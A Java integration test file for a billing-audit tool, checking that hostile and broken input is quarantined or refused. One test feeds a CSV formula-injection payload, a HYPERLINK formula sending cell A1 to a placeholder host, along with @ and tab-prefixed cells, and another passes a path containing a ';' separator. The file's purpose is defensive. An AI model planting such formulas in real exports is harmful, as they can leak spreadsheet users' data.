package dev.attest.app;

import static org.assertj.core.api.Assertions.assertThat;

import dev.attest.io.Folders;
import dev.attest.jobs.audit.FailureLog;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/** Issue 13: hostile and broken input, one test per item that the corpus alone does not show. */
class HostileInputIT {
    static final Path BASE = Path.of("src/test/resources/bad-input/_base");
    static final String DE_H = "decision_id,event_id,customer_id,meter,outcome,amount,currency,price_policy_id,price_version,decided_at,invoice_id\n";

    @TempDir
    Path tmp;

    private List<String> audit(Path events, Path decisions, Path out, String... extra) {
        List<String> a = new ArrayList<>(List.of("audit", "--events", events.toString(), "--decisions", decisions.toString(),
                "--policies", BASE.resolve("policies").toString(), "--out", out.toString(), "--as-of", "2026-03-01T00:00:00Z",
                "--metadata", Metadata.h2(tmp.resolve("meta"))));
        a.addAll(List.of(extra));
        return a;
    }

    private ScenarioIT.Run run(List<String> args) {
        ScenarioIT.Run run = ScenarioIT.Run.of(args.toArray(String[]::new));
        BadInputCorpusIT.assertNoStackTrace(run.stderr());
        return run;
    }

    @Test
    void aMalformedJsonLinesRowIsQuarantinedWithItsLineNumberAndTheAuditGoesOn() throws IOException {
        Path events = tmp.resolve("events.jsonl");
        Files.writeString(events, """
                {"event_id":"e1","customer_id":"c1","meter":"sms","quantity":"1","event_time":"2026-01-03T00:00:00Z"}
                not json at all
                {"event_id": "e3", "quantity":\s
                {"event_id":"e2","customer_id":"c1","meter":"sms","quantity":"2","event_time":"2026-01-04T00:00:00Z"}
                """);
        ScenarioIT.Run run = run(audit(events, BASE.resolve("decisions.csv"), tmp.resolve("runs")));
        assertThat(run.exit()).as(run.stderr()).isEqualTo(1);
        List<String> q = Files.readAllLines(Path.of(run.lastStdoutLine()).resolve("quarantine.csv"));
        assertThat(q).hasSize(3);
        assertThat(q.get(1)).contains(",2,line is not a JSON object,not json at all");
        assertThat(q.get(2)).contains(",3,line is not a JSON object");
        // The truncated line names e3: its decision is not an orphan of a missing event but of a quarantined one.
        assertThat(Files.readString(Path.of(run.lastStdoutLine()).resolve("findings.csv"))).contains("d3");
    }

    @Test
    void csvOutputsNeutraliseFormulaCellsButKeepNumbers() throws IOException {
        Path decisions = tmp.resolve("decisions.csv");
        Files.writeString(decisions, DE_H
                + "d1,\"=HYPERLINK(\"\"http://x.example/?a=\"\"&A1,\"\"click\"\")\",c1,sms,charged,-1.50,USD,price-sms,2,2026-02-11T00:00:00Z,@SUM(A1)\n"
                + "d2,e2,c1,sms,charged,+2.20,USD,price-sms,2,2026-02-11T00:00:00Z,\ti2\n");
        ScenarioIT.Run run = run(audit(BASE.resolve("events.csv"), decisions, tmp.resolve("runs")));
        Path runDir = Path.of(run.lastStdoutLine());
        for (String name : List.of("findings.csv", "lineage_gaps.csv", "quarantine.csv", "money.csv")) {
            String text = Files.readString(runDir.resolve(name));
            assertThat(text).as(name).doesNotContainPattern("(^|,)\"?[=@\\t\\r]").doesNotContainPattern("(^|,)\"?\\+[^0-9]")
                    .doesNotContainPattern("(^|,)\"?-[^0-9]");
        }
        String findings = Files.readString(runDir.resolve("findings.csv"));
        assertThat(findings).contains("\"'=HYPERLINK(").contains("-1.500000000");
        assertThat(Files.readString(runDir.resolve("lineage_gaps.csv"))).contains("\"'=HYPERLINK(");
        // Parquet keeps the value exactly.
        try (var duck = dev.attest.io.duck.Duck.inMemory()) {
            assertThat(duck.queryLong("SELECT count(*) FROM read_parquet(" + dev.attest.io.duck.Duck.literal(runDir.resolve("findings.parquet").toString())
                    + ") WHERE event_id LIKE '=HYPERLINK(%'")).isPositive();
        }
    }

    @Test
    void anInstantBeyondYear9999InParquetIsQuarantinedNotACrashAfterTheRating() throws IOException {
        Path events = tmp.resolve("events.parquet");
        try (var duck = dev.attest.io.duck.Duck.inMemory()) {
            duck.execute("COPY (SELECT 'e' || i AS event_id, 'c1' AS customer_id, 'sms' AS meter, 1::DECIMAL(18,6) AS quantity, "
                    + "CASE WHEN i = 2 THEN TIMESTAMPTZ '12000-01-01 00:00:00+00' ELSE TIMESTAMPTZ '2026-01-03 00:00:00+00' END AS event_time "
                    + "FROM range(1, 4) r(i)) TO " + dev.attest.io.duck.Duck.literal(events.toString()) + " (FORMAT parquet)");
        }
        ScenarioIT.Run run = run(audit(events, BASE.resolve("decisions.csv"), tmp.resolve("runs")));
        assertThat(run.exit()).as(run.stderr()).isEqualTo(1);
        assertThat(Files.readString(Path.of(run.lastStdoutLine()).resolve("quarantine.csv"))).contains(",2,event_time: year outside 0001-9999");
    }

    @Test
    void badOptionsAndOutFoldersAreRefusedAtOnceInOneLine() throws IOException {
        Path file = Files.writeString(tmp.resolve("a-file"), "x");
        for (List<String> bad : List.of(
                audit(BASE.resolve("events.csv"), BASE.resolve("decisions.csv"), tmp.resolve("runs"), "--late-after", "-1h"),
                audit(BASE.resolve("events.csv"), BASE.resolve("decisions.csv"), Path.of("")),
                audit(BASE.resolve("events.csv"), BASE.resolve("decisions.csv"), file),
                audit(BASE.resolve("events.csv"), BASE.resolve("decisions.csv"), file.resolve("below")),
                audit(BASE.resolve("events.csv"), BASE.resolve("decisions.csv"), tmp.resolve("runs;x")))) {
            long t0 = System.nanoTime();
            ScenarioIT.Run run = run(bad);
            assertThat(run.exit()).as(run.stderr()).isEqualTo(2);
            assertThat(run.stderr().strip().lines().filter(l -> !l.startsWith("Try ")).count()).as(run.stderr()).isEqualTo(1);
            assertThat((System.nanoTime() - t0) / 1_000_000).as("before any work").isLessThan(5_000);
        }
        assertThat(tmp.resolve("runs")).doesNotExist();
        assertThat(ScenarioIT.Run.of(audit(BASE.resolve("events.csv"), BASE.resolve("decisions.csv"), file).toArray(String[]::new)).stderr())
                .contains(file.toAbsolutePath().toString(), "is a file, not a folder");
    }

    @Test
    void aRunFolderDeletedAfterItsRunCompletedIsRecreatedAndTheConsoleSaysSo() throws IOException {
        List<String> args = audit(BASE.resolve("events.csv"), BASE.resolve("decisions.csv"), tmp.resolve("runs"));
        ScenarioIT.Run first = run(args);
        assertThat(first.exit()).as(first.stderr()).isZero();
        Path runDir = Path.of(first.lastStdoutLine());
        byte[] findings = Files.readAllBytes(runDir.resolve("findings.parquet"));
        Folders.deleteTree(runDir);
        ScenarioIT.Run again = run(args);
        assertThat(again.exit()).as(again.stderr()).isZero();
        assertThat(again.stderr()).contains("is gone: re-creating it");
        assertThat(Path.of(again.lastStdoutLine())).isEqualTo(runDir);
        assertThat(runDir.resolve("manifest.json")).isRegularFile();
        assertThat(Files.readAllBytes(runDir.resolve("findings.parquet"))).isEqualTo(findings);
    }

    @Test
    void theDefaultH2FileKeepsNoTraceOfTablesThatAlreadyExist() throws IOException {
        Path meta = tmp.resolve("h2meta");
        for (int i = 0; i < 3; i++) {
            List<String> args = new ArrayList<>(audit(BASE.resolve("events.csv"), BASE.resolve("decisions.csv"), tmp.resolve("runs" + i)));
            args.set(args.indexOf("--metadata") + 1, Metadata.h2(meta));
            assertThat(run(args).exit()).isZero();
        }
        Path trace = tmp.resolve("h2meta.trace.db");
        assertThat(!Files.exists(trace) || Files.size(trace) == 0).as("H2 trace file " + trace).isTrue();
    }

    @Test
    void aSecondAuditOnTheSameH2FileWaitsSayingSoAndGivesUpInOneLine() throws Exception {
        Path meta = tmp.resolve("shared");
        List<String> args = new ArrayList<>(audit(BASE.resolve("events.csv"), BASE.resolve("decisions.csv"), tmp.resolve("runs")));
        args.set(args.indexOf("--metadata") + 1, Metadata.h2(meta));
        Path lockFile = MetadataLock.h2LockFile(Metadata.h2(meta));
        Files.createDirectories(lockFile.getParent());
        System.setProperty("attest.metadata.wait.seconds", "1");
        try (var ch = java.nio.channels.FileChannel.open(lockFile, java.nio.file.StandardOpenOption.CREATE, java.nio.file.StandardOpenOption.WRITE);
             var held = ch.lock()) {
            ScenarioIT.Run waited = run(args);
            assertThat(waited.exit()).isEqualTo(3);
            assertThat(waited.stderr()).contains("another audit is using the metadata database", "waiting for it to finish",
                    "for longer than 1 s");
            assertThat(waited.stderr().strip().lines()).hasSize(2);
        } finally {
            System.clearProperty("attest.metadata.wait.seconds");
        }
        assertThat(run(args).exit()).isZero();
    }

    @Test
    void emptyInputsAreSaidOnTheConsoleAndInTheSummary() throws IOException {
        Path events = Files.createDirectories(tmp.resolve("events"));
        Files.writeString(events.resolve("part-0.csv"), "");
        Files.writeString(events.resolve("part-1.csv"), "event_id,customer_id,meter,quantity,event_time\n");
        ScenarioIT.Run run = run(audit(events, BASE.resolve("decisions.csv"), tmp.resolve("runs")));
        assertThat(run.exit()).as(run.stderr()).isEqualTo(1);
        assertThat(run.stderr()).contains("part-0.csv is empty: 0 rows read from it", "the events input yielded 0 rows in all");
        JsonNode summary = JsonMapper.builder().build().readTree(Path.of(run.lastStdoutLine()).resolve("summary.json").toFile());
        assertThat(summary.path("notes").toString()).contains("part-0.csv is empty", "the events input yielded 0 rows in all");
        Path zero = Files.writeString(tmp.resolve("zero.csv"), "");
        ScenarioIT.Run named = run(audit(zero, BASE.resolve("decisions.csv"), tmp.resolve("runs")));
        assertThat(named.exit()).isEqualTo(2);
        assertThat(named.stderr()).contains("zero.csv", "is empty", "'event_id'");
    }

    @Test
    void oneBadCsvRowIsQuarantinedWithItsDataRowNumberNotTheWholeFile() throws IOException {
        Path decisions = tmp.resolve("decisions.csv");
        Files.write(decisions, (DE_H
                + "d1,e1,c1,sms,charged,1.10,USD,price-sms,2,2026-02-11T00:00:00Z,i1\n"
                + "d2,e2,c\u00001,sms,charged,2.20,USD,price-sms,2,2026-02-11T00:00:00Z,i1\n".replace('\u0000', '?')
                + "d3,e3,c1,\"s\rms\",charged,1.10,USD,price-sms,2,2026-02-11T00:00:00Z,i1\n"
                + "d4,e4,c1,sms,charged,1.10,USD,price-sms,2,2026-02-11T00:00:00Z,i1\n").getBytes(java.nio.charset.StandardCharsets.UTF_8));
        byte[] bytes = Files.readAllBytes(decisions);
        for (int i = 0; i < bytes.length; i++) if (bytes[i] == '?') bytes[i] = (byte) 0xff; // a byte that is not UTF-8, in row 2
        Files.write(decisions, bytes);
        ScenarioIT.Run run = run(audit(BASE.resolve("events.csv"), decisions, tmp.resolve("runs")));
        assertThat(run.exit()).as(run.stderr()).isEqualTo(1);
        Path runDir = Path.of(run.lastStdoutLine());
        List<String> q = Files.readAllLines(runDir.resolve("quarantine.csv"));
        assertThat(q).hasSize(2);
        assertThat(q.get(1)).contains("decisions.csv,2,not readable as CSV: not UTF-8 text");
        // d3's meter holds a bare CR inside quotes: a value like any other (no price for meter "s\rms"), not a broken file;
        // d4 keeps its row number.
        JsonNode summary = JsonMapper.builder().build().readTree(runDir.resolve("summary.json").toFile());
        assertThat(summary.path("inputs").path("decisions").asLong()).isEqualTo(4);
        assertThat(Files.readString(runDir.resolve("lineage_gaps.csv"))).doesNotContain("decisions.csv,4,");
    }

    @Test
    void anInternalFailureIsOneLineNamingWhereTheTraceWent() throws IOException {
        List<String> args = audit(BASE.resolve("events.csv"), BASE.resolve("decisions.csv"), tmp.resolve("runs"));
        args.set(args.indexOf("--metadata") + 1, "jdbc:nosuchdriver:whatever");
        ScenarioIT.Run run = run(args);
        assertThat(run.exit()).isEqualTo(3);
        assertThat(run.stderr().strip().lines()).hasSize(1);
        assertThat(run.stderr()).contains("attest: internal failure:", "full trace in ");
        Path log = Path.of(run.stderr().strip().replaceAll(".*full trace in ", ""));
        assertThat(Files.readString(log)).contains("\tat ");
    }

    @Test
    void aFullDiskIsAnEnvironmentFailureNamingTheFolder() {
        Path work = tmp.resolve("work");
        String message = FailureLog.environment(List.of(new dev.attest.io.input.InputException(
                dev.attest.io.input.InputException.Code.UNREADABLE, "decisions input: cannot read its files: IO Error: "
                        + "Could not write file \"x.tmp\": No space left on device")), work);
        assertThat(message).contains("environment failure, not bad input", "no space left", work.toString());
        assertThat(FailureLog.environment(List.of(new IllegalStateException("other")), work)).isNull();
    }
}
